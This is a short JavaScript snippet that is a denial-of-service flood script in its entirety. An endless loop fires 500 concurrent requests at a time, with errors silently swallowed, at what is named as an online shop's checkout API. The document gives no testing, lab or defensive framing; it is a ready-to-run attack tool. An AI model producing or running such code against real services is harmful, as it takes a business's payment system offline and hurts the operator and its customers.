async function flood(url) {
  while (true) {
    await Promise.all(Array.from({ length: 500 }, () => fetch(url).catch(() => {})));
  }
}
flood("https://api.target-shop.com/checkout");
